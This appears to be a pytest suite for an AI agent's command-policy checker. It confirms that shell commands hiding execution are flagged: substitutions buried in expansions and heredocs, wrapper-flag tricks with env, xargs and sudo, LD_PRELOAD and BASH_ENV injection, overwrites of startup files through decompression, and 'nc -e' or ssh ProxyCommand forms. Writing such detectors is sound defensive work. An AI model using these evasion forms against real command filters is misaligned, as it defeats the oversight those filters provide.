"""Programs that run although the words of a command look harmless."""

import subprocess
from pathlib import Path

import pytest

from tests.agent_core.tools.policy.command_effects import list_effects
from tests.tables import check_each

SUBSTITUTED = (
    ': "${x:-`touch ran`}"',
    ": ${x:-`touch ran`}",
    'echo "${HOME#`touch ran`}"',
    "echo ${HOME/a/`touch ran`}",
    "cat <<E\n`touch ran`\nE",
    "cat <<E\n${x:-`touch ran`}\nE",
    "cat <<-E\n\ta `touch ran`\n\tE",
    "cat ${x:-<(touch ran; sleep 0.1)}",
    "x='a[$(touch ran)]'; b=([x]=1)",
    "x='a[$(touch ran)]'; declare -a b=([x]=1)",
)
RUNNERS = (
    *("env --unse ls sh x.sh", "env -iu ls sh x.sh", "env -a ls sh x.sh", "env --split='sh x.sh'"),
    *("exec -la ls sh x.sh", "exec -ca ls sh x.sh", "xargs --arg-file ls sh x.sh"),
    *("xargs --process-slot-var ls sh x.sh", "xargs -I ls ls x.sh", "xargs -i {} x.sh"),
    *("sudo --prompt ls sh x.sh", "sudo -np ls sh x.sh", "sudo -D . ls", "sudo -s ls"),
    *("flock --wait 1 ls sh x.sh", "flock -xw 1 ls sh x.sh", "unshare -w ls sh x.sh"),
    *("nice nice nice nice nice nice nice sh x.sh", "env env env env env env env sh x.sh"),
    *("set -a; : ${LD_PRELOAD:=./x.so}; ls", "set -a; : ${BASH_ENV=x}; bash -c ls"),
    *("chroot . ls", "chroot --userspec=a . ls", "ionice -P ls sh x.sh", "doas -s"),
)
SHELLS = (
    *("bash x.sh -c ls", "sh x.sh -c ls", "bash ./x -c 'ls'", "bash -- x.sh -c ls"),
    *("bash - x.sh -c ls", "bash +c x.sh -c ls", "bash -O extglob x.sh -c ls"),
    *("bash --rcfile ./x -ic true", "bash --init-file=x -ic true", "bash -o vi x.sh -c ls"),
    *("fish -C 'sh x.sh' -c ls", "fish --init-command='sh x.sh' -c true"),
    r"""fish -c "echo 'a\' 'b; sh x.sh #'" """,
    "zsh x -c ls",
)
COMPOSED = (
    *("gunzip -N a.gz", "gzip -dN a.gz", "gzip --decompress --name a.gz", "gunzip a.pth.gz"),
    *("xz -d sitecustomize.py.xz", "zstd -d php.ini.zst", "xz --files=list", "gunzip -r d"),
    *("zstd --filelist=list -d", "zstd -d --output-dir-flat=d a", "gunzip -S x a.pthx"),
    *("csplit -f . -b gdbinit a 1", "split -a1 --additional-suffix=init a .x"),
    *("cp -r evil/./ .", "cp -a evil/..// ."),
    *("GREP=./x zgrep a b", "XZ_OPT=--files=x xz", "TMPDIR=/ git reset --hard"),
)
ORDINARY = (
    *(
        "find . -print0 | xargs -0 -n1 wc -l",
        "ls | xargs -I{} echo {}",
        "ls | xargs -d '\\n' -r ls",
    ),
    *(
        "env -u A sort a",
        "timeout -s KILL 5 ls",
        "stdbuf -oL ls",
        "nice -n 10 ls",
        "flock -w 5 a ls",
    ),
    *("bash -euo pipefail -c 'ls | wc -l'", "bash -lc ls", "sh -e -c ls", "bash --norc -c ls"),
    *("gzip -9k a", "gunzip -c a.gz | head", "xz -T0 -9e a", "zstd -19 a -o b.zst", "exec -a x ls"),
    *("split -l 100 a part", "split -b10M a part", "csplit -k a 5", "cp -a src/ b"),
    *('echo "now: `date`"', "cat <<'E'\nuse `x` and $(y)\nE", "git commit -m 'a `b`'"),
    *('echo "a <(b) \\`c\\`"', "ls # don't `x`", "grep '$(' a", "b=([1]=x [2]=y)", "echo ${x:-a}"),
    *("echo ${x:=a}", "nice env timeout 5 ls"),
)


@pytest.mark.process
def test_a_substitution_is_seen_wherever_bash_runs_it(tmp_path: Path) -> None:
    def check(text: str) -> None:
        ran = tmp_path / "ran"
        subprocess.run(["bash", "-c", text], cwd=tmp_path, check=False, capture_output=True)
        assert ran.exists()
        ran.unlink()
        hidden = text.replace("touch ran", "sh x.sh")
        assert "!" in list_effects(hidden)
        assert "delete outside" in list_effects(hidden, is_confined=False, has_network=False)

    check_each(SUBSTITUTED, check)


@pytest.mark.parametrize("rows", [RUNNERS, SHELLS, COMPOSED])
def test_words_that_hide_what_runs_or_what_is_written_are_seen(rows: tuple[str, ...]) -> None:
    def check(text: str) -> None:
        assert "!" in list_effects(text)
        assert "delete outside" in list_effects(text, is_confined=False, has_network=False)

    check_each(rows, check)


def test_ordinary_forms_of_the_same_programs_ask_nothing() -> None:
    def check(text: str) -> None:
        assert list_effects(text) <= {"write workspace"}

    check_each(ORDINARY, check)


def test_a_program_of_the_network_that_runs_another_here_is_seen() -> None:
    def check(text: str) -> None:
        assert "delete outside" in list_effects(text, is_confined=False)

    check_each(
        (
            *("ssh -o ProxyCommand=./x h.example", "ssh -oLocalCommand=x h", "ssh -F x h"),
            *("scp -S ./x a h:b", "sftp -D ./x", "ssh -I ./x.so h", "socat - EXEC:./x"),
            *("nc -e ./x h 1", "ncat --sh-exec x -c x h 1"),
        ),
        check,
    )
    assert "delete outside" not in list_effects(
        "ssh -o BatchMode=yes -p 22 h ls", is_confined=False
    )
